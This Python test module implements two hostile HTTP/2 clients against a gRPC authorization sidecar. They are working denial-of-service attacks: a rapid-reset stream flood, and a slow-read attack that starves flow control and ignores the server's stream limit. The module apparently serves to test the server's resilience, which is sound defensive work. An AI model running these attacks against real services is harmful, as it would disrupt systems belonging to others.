"""Hostile HTTP/2 clients of the sidecar's gRPC port, written on the `h2` state
machine over a raw socket so that every frame is under the test's control.

- `RapidReset`: HEADERS and a Check message, then RST_STREAM at once, in a loop
  (the 2023 "rapid reset" pattern): each stream makes the server start a call it
  never has to answer.
- `UnreadAnswers`: a tiny flow-control window and many streams whose answers it
  never reads, on several connections, so the server must hold every answer.

Each runs in its own threads until `stop()`, reconnects when the server closes
the connection, and counts what it sent and how the server pushed back. Run as
a module, an attacker is a process of its own, as a hostile client would be.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import select
import signal
import socket
import struct
import sys
import threading
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from tests.check_requests import check_request

CHECK_PATH = "/envoy.service.auth.v3.Authorization/Check"


def grpc_frame(message: bytes) -> bytes:
    """One length-prefixed gRPC message, uncompressed."""
    return b"\x00" + struct.pack(">I", len(message)) + message


def check_message(padding: int = 0) -> bytes:
    request = check_request("GET", "/hostile", headers={"x-pad": "p" * padding})
    return grpc_frame(request.SerializeToString())


def _request_headers(authority: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", CHECK_PATH),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("grpc-timeout", "10S"),
    ]


@dataclass
class AttackCounts:
    connections: int = 0
    streams: int = 0
    resets_sent: int = 0
    goaways: int = 0
    refused_streams: int = 0  # RST_STREAM from the server
    closed_by_server: int = 0


class _Attacker:
    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.counts = AttackCounts()
        self._stopping = threading.Event()
        self._threads: list[threading.Thread] = []
        self._sockets: list[socket.socket] = []
        self._lock = threading.Lock()

    def _connect(self, initial_window: int | None = None) -> tuple[socket.socket, h2.connection.H2Connection]:
        sock = socket.create_connection((self.host, self.port), timeout=5)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        conn = h2.connection.H2Connection(config)
        conn.initiate_connection()
        if initial_window is not None:
            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window})
        sock.sendall(conn.data_to_send())
        with self._lock:
            self.counts.connections += 1
            self._sockets.append(sock)
        return sock, conn

    def _absorb(self, conn: h2.connection.H2Connection, data: bytes) -> bool:
        """Feed what the server sent; False once it said GOAWAY."""
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return False
        alive = True
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.counts.goaways += 1
                alive = False
            elif isinstance(event, h2.events.StreamReset):
                self.counts.refused_streams += 1
        return alive

    def start(self, threads: int = 1) -> None:
        for _ in range(threads):
            thread = threading.Thread(target=self._run_forever, daemon=True)
            thread.start()
            self._threads.append(thread)

    def _run_forever(self) -> None:
        while not self._stopping.is_set():
            try:
                self._attack()
            except (OSError, ValueError, h2.exceptions.H2Error):  # ValueError: closed by stop()
                self.counts.closed_by_server += 1
                self._stopping.wait(0.01)

    def _attack(self) -> None:
        raise NotImplementedError

    def stop(self) -> None:
        self._stopping.set()
        with self._lock:
            for sock in self._sockets:
                with contextlib.suppress(OSError):
                    sock.close()
        for thread in self._threads:
            thread.join(10)


class RapidReset(_Attacker):
    """HEADERS + DATA + RST_STREAM, as fast as the socket takes them."""

    def __init__(self, host: str, port: int, batch: int = 50) -> None:
        super().__init__(host, port)
        self._batch = batch

    def _attack(self) -> None:
        sock, conn = self._connect()
        message = check_message()
        authority = f"{self.host}:{self.port}"
        try:
            while not self._stopping.is_set():
                for _ in range(self._batch):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, _request_headers(authority))
                    conn.send_data(stream_id, message, end_stream=True)
                    conn.reset_stream(stream_id)
                    self.counts.streams += 1
                    self.counts.resets_sent += 1
                sock.sendall(conn.data_to_send())
                readable, _, _ = select.select([sock], [], [], 0)
                if readable:
                    data = sock.recv(65536)
                    if not data or not self._absorb(conn, data):
                        self.counts.closed_by_server += not data
                        return
                    sock.sendall(conn.data_to_send())
        finally:
            sock.close()


class UnreadAnswers(_Attacker):
    """Streams whose answers are never read: an initial window of 1 byte and no
    WINDOW_UPDATE ever, so no answer can be delivered; the connections stay open
    (the server's SETTINGS limit is ignored: a hostile client need not obey it)."""

    def __init__(
        self,
        host: str,
        port: int,
        streams_per_connection: int = 5000,
        connections: int = 2,
        padding: int = 2000,
    ) -> None:
        super().__init__(host, port)
        self._streams = streams_per_connection
        self._connections = connections
        self._padding = padding

    def _attack(self) -> None:
        if self.counts.connections >= self._connections:
            self._stopping.wait(0.2)  # hold what is open, reading nothing
            return
        sock, conn = self._connect(initial_window=1)
        # Skip h2's own enforcement of the server's stream limit: obey nothing.
        conn.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 2**31 - 1
        message = check_message(self._padding)
        authority = f"{self.host}:{self.port}"
        sock.settimeout(2)
        for _ in range(self._streams):
            if self._stopping.is_set():
                return
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, _request_headers(authority))
            # Take in the server's frames (its window updates) but never grant it a byte.
            while conn.local_flow_control_window(stream_id) < len(message):
                if not select.select([sock], [], [], 2)[0]:
                    self._stopping.wait(0.2)  # the server grants no more: hold what is open
                    return
                data = sock.recv(65536)
                if not data or not self._absorb(conn, data):
                    return
                sock.sendall(conn.data_to_send())
            conn.send_data(stream_id, message, end_stream=True)
            self.counts.streams += 1
            sock.sendall(conn.data_to_send())


ATTACKS: dict[str, type[_Attacker]] = {"rapid-reset": RapidReset, "unread-answers": UnreadAnswers}


def main() -> None:
    """`python -m tests.hostile.h2_attackers KIND HOST PORT THREADS`: attack until
    SIGTERM, then print the counts as one JSON line."""
    kind, host, port, threads = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    attacker = ATTACKS[kind](host, port)
    stopping = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopping.set())
    attacker.start(threads)
    stopping.wait()
    attacker.stop()
    print(json.dumps(dataclasses.asdict(attacker.counts)), flush=True)


if __name__ == "__main__":
    main()
